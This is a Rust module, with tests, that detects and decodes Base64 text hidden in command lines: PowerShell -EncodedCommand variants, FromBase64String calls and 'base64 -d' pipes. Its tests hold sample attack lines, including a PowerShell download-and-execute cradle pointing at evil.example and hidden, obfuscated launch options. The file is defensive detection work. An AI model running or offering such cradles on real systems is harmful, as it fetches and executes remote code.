//! Text that command lines carry in Base64, decoded.
//!
//! PowerShell takes a script as `-EncodedCommand`, under any abbreviation of that name, and scripts
//! hide others in `FromBase64String`; shells decode with `base64 -d`. This module decodes such text
//! and runs nothing. Whatever does not decode to readable text is left alone.

use base64::{
    Engine as _,
    alphabet::STANDARD,
    engine::{DecodePaddingMode, GeneralPurpose, GeneralPurposeConfig},
};

/// The longest Base64 text to decode, in bytes. Windows limits a command line to 32,767 characters.
const MAX_ENCODED: usize = 1 << 17;
/// The shortest Base64 text that counts as encoded: shorter words are often plain options.
const MIN_ENCODED: usize = 8;
/// The longest command line to search, in bytes.
const MAX_COMMAND: usize = 1 << 18;
/// How often decoded text is decoded again.
const MAX_DEPTH: usize = 3;
/// The maximum number of texts to decode. A command line may be written to have thousands.
const MAX_TEXTS: usize = 8;

const BASE64: GeneralPurpose = GeneralPurpose::new(
    &STANDARD,
    GeneralPurposeConfig::new()
        .with_decode_padding_mode(DecodePaddingMode::Indifferent)
        .with_decode_allow_trailing_bits(true),
);

/// Returns the texts that a command line carries in Base64, decoded, in the order in which they are
/// written. Text that was encoded again follows the text that it was in. At most 8 texts are decoded,
/// and none of a command line longer than 256 KiB.
pub fn decoded(command: &str) -> Vec<String> {
    let mut found = Vec::new();
    decode_into(command, 0, &mut found);
    found
}

fn decode_into(command: &str, depth: usize, found: &mut Vec<String>) {
    if depth == MAX_DEPTH || !(MIN_ENCODED..=MAX_COMMAND).contains(&command.len()) {
        return;
    }
    let mut encoded: Vec<(usize, &str)> = Vec::new();
    encoded.extend(encoded_commands(command));
    encoded.extend(calls(command));
    if is_piped(command) {
        let words = words(command).filter(|(_, word)| is_encoded(word));
        encoded.extend(words.max_by_key(|(_, word)| word.len()));
    }
    encoded.sort_by_key(|(at, _)| *at);
    encoded.dedup_by_key(|(at, _)| *at);
    for (_, text) in encoded {
        if found.len() == MAX_TEXTS {
            return;
        }
        if let Some(text) = readable(text)
            && !found.contains(&text)
        {
            found.push(text.clone());
            decode_into(&text, depth + 1, found);
        }
    }
}

/// Lists the words of a command line with their positions. Quotes separate words, too.
fn words(command: &str) -> impl Iterator<Item = (usize, &str)> {
    let is_separator = |c: char| c.is_whitespace() || matches!(c, '"' | '\'' | '`' | '(' | ')' | ';' | '|');
    let words = command.split(is_separator).filter(|word| !word.is_empty());
    words.map(move |word| (word.as_ptr() as usize - command.as_ptr() as usize, word))
}

/// Lists the values of PowerShell's parameter `-EncodedCommand`. PowerShell accepts each
/// abbreviation of the name and the alias `-ec`, and a slash or a long dash in place of the hyphen
/// (about_PowerShell_exe).
fn encoded_commands(command: &str) -> impl Iterator<Item = (usize, &str)> {
    let is_parameter = |word: &str| {
        let name = word.strip_prefix(['-', '/', '\u{2013}', '\u{2014}', '\u{2015}']);
        let name = name.map(|name| name.replace('^', "").to_ascii_lowercase());
        name.is_some_and(|name| !name.is_empty() && (name == "ec" || "encodedcommand".starts_with(&name)))
    };
    let pairs = words(command).zip(words(command).skip(1));
    pairs
        .filter(move |((_, name), (_, value))| is_parameter(name) && is_encoded(value))
        .map(|(_, value)| value)
}

/// Lists the texts that are given to `FromBase64String`.
fn calls(command: &str) -> impl Iterator<Item = (usize, &str)> {
    const NAME: &str = "frombase64string";
    let lower = command.to_ascii_lowercase();
    let starts: Vec<_> = lower.match_indices(NAME).map(|(at, _)| at + NAME.len()).collect();
    starts.into_iter().filter_map(|start| {
        let (at, word) = words(&command[start..]).next()?;
        is_encoded(word).then_some((start + at, word))
    })
}

/// Returns whether a shell decodes Base64, as in `echo … | base64 -d | sh`.
fn is_piped(command: &str) -> bool {
    let is_base64 = |word: &str| word.rsplit('/').next() == Some("base64");
    let decodes = |option: &str| matches!(option, "-d" | "-D" | "-di" | "--decode");
    let mut pairs = words(command).zip(words(command).skip(1));
    pairs.any(|((_, word), (_, option))| is_base64(word) && decodes(option))
}

fn is_encoded(word: &str) -> bool {
    let is_part = |byte: u8| byte.is_ascii_alphanumeric() || matches!(byte, b'+' | b'/' | b'=');
    (MIN_ENCODED..=MAX_ENCODED).contains(&word.len()) && word.bytes().all(is_part)
}

/// Decodes Base64 to text, in UTF-16 as PowerShell writes it or in UTF-8; `None` if it is not
/// readable text.
fn readable(encoded: &str) -> Option<String> {
    let bytes = BASE64.decode(encoded).ok()?;
    let is_readable = |text: &String| {
        !text.trim().is_empty()
            && text.chars().all(|c| !c.is_control() || matches!(c, '\t' | '\r' | '\n'))
            && !text.contains('\u{fffd}')
    };
    utf16(&bytes).filter(is_readable).or_else(|| String::from_utf8(bytes).ok().filter(is_readable))
}

/// Reads UTF-16 in which most characters are ASCII, as those of scripts are; otherwise, any text of
/// even length could be read.
fn utf16(bytes: &[u8]) -> Option<String> {
    if bytes.is_empty() || bytes.len() % 2 == 1 {
        return None;
    }
    let units: Vec<u16> = bytes.chunks_exact(2).map(|pair| u16::from_le_bytes([pair[0], pair[1]])).collect();
    let ascii = units.iter().filter(|unit| **unit < 128).count();
    (ascii * 2 >= units.len()).then(|| String::from_utf16(&units).ok()).flatten()
}

#[cfg(test)]
mod tests {
    use super::*;
    use proptest::prelude::*;
    use rstest::rstest;

    fn utf16_base64(text: &str) -> String {
        BASE64.encode(text.encode_utf16().flat_map(u16::to_le_bytes).collect::<Vec<_>>())
    }

    #[rstest]
    #[case("powershell -e {}")]
    #[case("powershell.exe -NoP -w hidden -ec {}")]
    #[case("pwsh -enc {}")]
    #[case("PowerShell -EnCoDeDcOmMaNd \"{}\"")]
    #[case("powershell /enc {}")]
    #[case("powershell \u{2013}encoded {}")]
    #[case("cmd /c p^owershell -e^nc {}")]
    #[case("powershell \"[Text.Encoding]::Unicode.GetString([Convert]::FromBase64String('{}'))\"")]
    #[case("sh -c \"echo {} | base64 -d | sh\"")]
    #[case("bash -c 'echo {}|/usr/bin/base64 --decode|bash'")]
    fn text_in_base64_is_decoded(#[case] command: &str) {
        let script = "IEX (New-Object Net.WebClient).DownloadString('http://evil.example/a')";
        for encoded in [utf16_base64(script), BASE64.encode(script)] {
            let padded = command.replace("{}", &encoded);
            assert_eq!(decoded(&padded), [script], "{padded}");
            let unpadded = command.replace("{}", encoded.trim_end_matches('='));
            assert_eq!(decoded(&unpadded), [script], "{unpadded}");
        }
    }

    #[rstest]
    #[case("powershell -ExecutionPolicy Bypass -File install.ps1")]
    #[case("powershell -e Get-Process")]
    #[case("tool -e deadbeefdeadbeef")]
    #[case("base64 -d secrets.txt")]
    #[case("curl -E certificate")]
    #[case("powershell -enc ////////")]
    #[case("")]
    fn other_command_lines_carry_nothing(#[case] command: &str) {
        assert!(decoded(command).is_empty(), "{:?}", decoded(command));
    }

    #[test]
    fn text_is_decoded_again_but_not_forever() {
        let mut command = "calc.exe /started".to_owned();
        let mut texts = vec![command.clone()];
        for _ in 0..5 {
            command = format!("powershell -enc {}", utf16_base64(&command));
            texts.push(command.clone());
        }
        texts.pop();
        texts.reverse();
        assert_eq!(decoded(&command), texts[..MAX_DEPTH]);
    }

    #[test]
    fn thousands_of_texts_are_not_all_decoded() {
        let call = |number: u32| format!("FromBase64String('{}')", BASE64.encode(format!("text {number}")));
        let command: String = (0..5_000).map(call).collect();
        assert_eq!(decoded(&command).len(), MAX_TEXTS);
        assert!(decoded(&format!("{command}{}", "x".repeat(MAX_COMMAND))).is_empty());
    }

    proptest! {
        #[test]
        fn any_command_line_can_be_searched(command in any::<String>(), text in "[ -~]{1,60}") {
            decoded(&command);
            let encoded = utf16_base64(&text);
            prop_assume!(encoded.len() >= MIN_ENCODED && !text.trim().is_empty());
            let found = decoded(&format!("powershell -enc {encoded}"));
            prop_assert_eq!(found.first(), Some(&text));
        }
    }
}
